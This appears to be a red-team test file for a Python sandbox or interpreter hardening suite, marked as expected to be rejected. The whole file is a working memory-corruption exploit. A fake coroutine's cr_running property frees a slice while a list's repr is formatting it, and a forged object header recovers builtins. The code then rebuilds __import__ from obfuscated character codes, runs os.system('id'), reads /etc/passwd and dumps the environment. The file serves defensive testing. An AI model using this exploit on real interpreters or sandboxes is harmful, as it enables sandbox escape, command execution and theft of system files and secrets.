# expect: reject memory
# line: 42
# why: round 97b (red team): a Task's repr reads its coroutine's cr_running, and a program class posing as a coroutine answered with a property getter that freed the slice a list's C repr was formatting; where asyncio is named, property getters are text hooks
import asyncio

L = []
ARM = [0]
GBUF = bytearray(1)


def q(v):
    return v.to_bytes(8, "little")


class Fake:
    def __repr__(self):
        raise ValueError(self)


def g():
    return 0


HDR = q(1 << 40) + q(id(Fake))


class Co:
    def send(self, v):
        raise StopIteration

    def throw(self, typ, val=None, tb=None):
        raise StopIteration

    def close(self):
        return None

    def __await__(self):
        return iter(())

    @property
    def cr_running(self):
        global GBUF
        if len(ARM) > 1:
            ARM.pop()
            L.clear()
            GBUF = bytearray(95)
            GBUF[0:16] = HDR
        return False


async def main():
    return asyncio.ensure_future(Co())


TASK = asyncio.run(main())
n = 40
L.append(slice(TASK, "q" * n))
ARM.append(1)
try:
    text = repr(L)
    mem = None
    print("no", text)
except ValueError as e:
    mem = e.args[0]
GBUF[8:48] = q(id(list)) + q(2) + q(id(g) + 16) + q(2) + q(0)
bt = mem[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
